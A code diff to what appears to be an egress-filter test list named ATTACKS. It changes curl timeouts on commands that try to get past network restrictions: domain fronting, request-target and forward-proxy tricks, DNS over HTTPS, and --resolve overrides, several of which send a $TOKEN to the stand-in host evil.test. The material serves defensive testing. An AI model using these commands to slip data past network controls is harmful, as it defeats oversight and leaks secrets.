@@ -38,31 +38,31 @@ roles() {
 export const ATTACKS: readonly Attack[] = [
   { name: "TCP to an address", shows: "address", python: "tcp()" },
   { name: "UDP to an address", shows: "address", python: "udp()" },
-  { name: "HTTP to an address", shows: "address", shell: 'curl -sS -m 8 "http://$ADDR/"' },
+  { name: "HTTP to an address", shows: "address", shell: 'curl -sS -m 20 "http://$ADDR/"' },
   {
     name: "the name of an allowed host, at another address (TLS)",
     shows: "address",
-    shell: 'curl -sSk -m 8 --resolve "site.test:443:$ADDR" https://site.test/',
+    shell: 'curl -sSk -m 20 --resolve "site.test:443:$ADDR" https://site.test/',
   },
   {
     name: "the name of an allowed host, at another address (HTTP)",
     shows: "address",
-    shell: 'curl -sS -m 8 --resolve "site.test:80:$ADDR" http://site.test/',
+    shell: 'curl -sS -m 20 --resolve "site.test:80:$ADDR" http://site.test/',
   },
   {
     name: "another Host inside an allowed host's TLS (domain fronting)",
     shows: "word",
-    shell: 'curl -sSk -m 8 -H "Host: evil.test" "https://site.test/$TOKEN"',
+    shell: 'curl -sSk -m 20 -H "Host: evil.test" "https://site.test/$TOKEN"',
   },
   {
     name: "a request target that differs from Host",
     shows: "word",
-    shell: 'curl -sS -m 8 --request-target "http://evil.test/$TOKEN" http://site.test/',
+    shell: 'curl -sS -m 20 --request-target "http://evil.test/$TOKEN" http://site.test/',
   },
   {
     name: "an allowed host as a forward proxy",
     shows: "word",
-    shell: 'curl -sS -m 8 -x http://site.test:80 "http://evil.test/$TOKEN"',
+    shell: 'curl -sS -m 20 -x http://site.test:80 "http://evil.test/$TOKEN"',
   },
   {
     name: "a word in the name of a lookup",
@@ -95,7 +95,7 @@ time.sleep(0.2)`,
   {
     name: "DNS over HTTPS inside an allowed host",
     shows: "word",
-    shell: 'curl -sSk -m 8 -H "Content-Type: application/dns-message" --data-binary "$TOKEN" ' +
+    shell: 'curl -sSk -m 20 -H "Content-Type: application/dns-message" --data-binary "$TOKEN" ' +
       "https://site.test/dns-query",
   },
   { name: "ping", shows: "address", shell: 'ping -c 1 -W 1 "$ADDR"' },
